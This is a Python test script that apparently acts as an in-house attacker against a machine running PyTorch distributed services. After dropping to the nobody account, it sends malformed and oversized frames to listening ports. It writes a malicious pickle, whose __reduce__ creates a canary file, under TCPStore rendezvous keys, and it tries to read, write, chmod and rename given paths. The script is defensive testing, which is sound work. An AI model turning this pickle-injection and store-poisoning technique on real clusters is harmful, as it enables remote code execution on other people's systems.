"""Another account of the host, or another host: python -m tests.attacker CANARY TARGET ...

As root it becomes an account without rights first. A target is ADDRESS:PORT, where it speaks what
might be spoken there: bytes without sense, lengths without end, pickles that make the canary file
where anybody opens them, HTTP, and, where a store answers, pickles under every key. Or it is a
path, with which it does whatever a file lets be done. It prints what answered, and what it could.
"""

import os
import pickle
import signal
import socket
import struct
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore

NOBODY = 65534
PICKLE_KEYS = ("torch.rendezvous.tiny", "/torch.rendezvous.tiny", "rdzv_state", "work/0", "evil")
_WAIT_S = 1.0
_STORE_ANSWERS_WITHIN_S = 3


class Evil:
    """Makes the canary when it is unpickled."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self):
        return Path.touch, (Path(self.canary),)


def payloads(canary: str) -> dict[str, bytes]:
    """What is sent, by name."""
    evil = pickle.dumps(Evil(canary))
    request = b"/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999\r\n\r\n"
    return {
        "nothing": b"",
        "zeros": bytes(64),
        "noise": bytes(range(256)) * 64,
        "pickle": evil,
        # Frames of multiprocessing.connection and of gloo, with sizes that are true and untrue.
        "framed pickle": struct.pack("!i", len(evil)) + evil,
        "endless frame": struct.pack("!i", -1) + struct.pack("!Q", 1 << 62) + evil,
        "largest frame": struct.pack("!i", 2**31 - 1) + evil,
        "small numbers": struct.pack("<8Q", *range(8)) + evil,
        "endless number": struct.pack("<4Q", 2**64 - 1, 2**62, 2**40, 1) + evil,
        "GET": b"GET " + request,
        "POST": b"POST " + request + evil,
    }


def send(end: tuple[str, int], payload: bytes) -> bytes:
    """Connect, send, listen for a moment; whatever breaks is an answer too."""
    with suppress(OSError), socket.create_connection(end, _WAIT_S) as connection:
        connection.settimeout(_WAIT_S)
        connection.sendall(payload)
        with suppress(OSError):
            return connection.recv(4096)
    return b""


def plant(end: tuple[str, int], canary: str) -> list[str]:
    """Pickles under every key of a store, those that are there and those that a launcher reads."""
    evil = pickle.dumps(Evil(canary))
    planted = []
    with suppress(RuntimeError):
        limit = timedelta(seconds=5)
        store = TCPStore(*end, is_master=False, timeout=limit, wait_for_workers=False)
        signal.alarm(10)
        store.set("evil", evil)
        there = store.list_keys() if hasattr(store, "list_keys") else []
        for key in {*PICKLE_KEYS, *there}:
            store.set(key, evil)
            planted.append(key)
    return planted


def trespass(path: Path) -> list[str]:
    """What could be done with a file, a folder or a socket of the file system."""
    deeds: dict[str, Callable[[], object]] = {
        "listed": lambda: list(path.iterdir()),
        "read": path.read_bytes,
        "written to": lambda: path.open("r+b").close(),
        "made a file in": (path / "planted").touch,
        "given rights": lambda: path.chmod(0o777),
        "spoken to": lambda: socket.socket(socket.AF_UNIX).connect(str(path)),
        "renamed": lambda: path.rename(path.with_suffix(".taken")),
    }
    done = []
    for name, deed in deeds.items():
        with suppress(OSError):
            deed()
            done.append(name)
    return done


def become_nobody() -> None:
    """From now on without rights. What Python would load only when it is needed is loaded before:
    this account may not be able to read it."""
    "".encode("idna")
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(NOBODY, NOBODY, NOBODY)
        os.setresuid(NOBODY, NOBODY, NOBODY)


def main() -> None:
    canary, *targets = sys.argv[1:]
    become_nobody()
    for path in (target for target in targets if target.startswith("/")):
        print(path, "was", ", ".join(trespass(Path(path))) or "out of reach", flush=True)
    parted = [t.rpartition(":") for t in targets if not t.startswith("/")]
    ends = [(address, int(port)) for address, _, port in parted]
    planters = [_planter(end, canary) for end in ends]
    every = [(end, *named) for end in ends for named in payloads(canary).items()]
    with ThreadPoolExecutor(32) as beside:
        answers = beside.map(lambda one: send(one[0], one[2]), every)
        for (end, name, _), answer in zip(every, answers, strict=True):
            print(*end, name, answer[:60], flush=True)
    for planter in planters:
        os.waitpid(planter, 0)


def _planter(end: tuple[str, int], canary: str) -> int:
    """In a process of its own: a client of torch's can't be told to give up on what is no store."""
    if pid := os.fork():
        return pid
    signal.signal(signal.SIGALRM, signal.SIG_DFL)
    signal.alarm(_STORE_ANSWERS_WITHIN_S)
    print(*end, "planted", plant(end, canary), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
